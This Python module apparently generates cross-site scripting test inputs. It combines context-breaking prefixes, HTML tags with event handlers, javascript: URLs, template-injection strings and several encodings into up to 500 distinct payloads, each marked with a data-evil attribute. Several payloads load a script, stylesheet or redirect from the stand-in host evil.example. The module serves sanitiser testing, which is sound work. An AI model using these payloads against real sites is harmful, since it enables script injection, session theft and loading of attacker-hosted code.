"""Texts that run if a page takes them for more than texts, put together from parts: what ends the place in
which a text stands, what then runs, and how it is spelt. Each bears `data-evil`, by which what came of it is
found in a page.
"""

from collections.abc import Callable
from html import escape
from itertools import product
from random import Random
from urllib.parse import quote

ENDS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</a></td></table>",
    "\\'\\\"><",
)
"""What closes the element, attribute or comment that a text stands in."""

RUN = "window.hasRun=(window.hasRun||0)+1"
TOLD = "alert(document.domain)"
BEARERS = (
    "<script data-evil>{run}</script>",
    "<script data-evil src=//evil.example/x.js></script>",
    "<img data-evil src=x onerror={run}>",
    "<svg data-evil onload={run}>",
    "<svg data-evil><animate onbegin={run} attributeName=x dur=1s>",
    "<iframe data-evil srcdoc='<script>parent.{run}</script>'></iframe>",
    "<input data-evil autofocus onfocus={run}>",
    "<details data-evil open ontoggle={run}>",
    "<video data-evil><source onerror={run}></video>",
    "<a data-evil href='javascript:{run}' autofocus onfocus={run}>x</a>",
    "<form data-evil action='javascript:{run}'><button autofocus onfocus={run}>x</button></form>",
    "<object data-evil data='javascript:{run}'></object>",
    "<meta data-evil http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base data-evil href=https://evil.example/>",
    "<link data-evil rel=stylesheet href=https://evil.example/x.css>",
    "<style data-evil>@import url(https://evil.example/x.css);</style>",
    "<p data-evil style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</p>",
    "<p data-evil hx-get=/console/ hx-trigger=load hx-on::load={run} hx-vals='js:{{a:{run}}}'>x</p>",
    "<form data-evil data-call='POST /api/v1/auth/logout'><button autofocus>x</button></form>",
    '" data-evil autofocus onfocus="{run}" x="',
    "' data-evil autofocus onfocus='{run}' x='",
    " data-evil onmouseover={run} ",
    "javascript:{run}",
    "{{{{ {run} }}}}{{% print({run}) %}}${{{run}}}",
)
"""What runs, or asks another host, once it is out; `{run}` is a script without a blank."""


def _in_capitals(text: str) -> str:
    """Names of elements do not care; of the script only what is not ours to spell."""
    return text.replace("script", "ScRiPt").replace("img", "IMG").replace("onfocus", "OnFocus")


def _with_strokes(text: str) -> str:
    """A stroke in the place of a blank ends a name just as well."""
    return text.replace(" data-evil ", "/data-evil/")


SPELLINGS: tuple[Callable[[str], str], ...] = (str, _in_capitals, _with_strokes, escape, quote)
"""As it stands, otherwise, and as somebody sends it who hopes that we undo it once too often."""
PARTS = tuple(product(ENDS, BEARERS, (RUN, TOLD), SPELLINGS))


def payloads(number: int = 500) -> list[str]:
    """So many of them, all different, each part in some of them."""
    order = Random(7).sample(PARTS, len(PARTS))
    made = (spelt(f"{end}{bearer.format(run=run)}") for end, bearer, run, spelt in order)
    return list(dict.fromkeys(made))[:number]
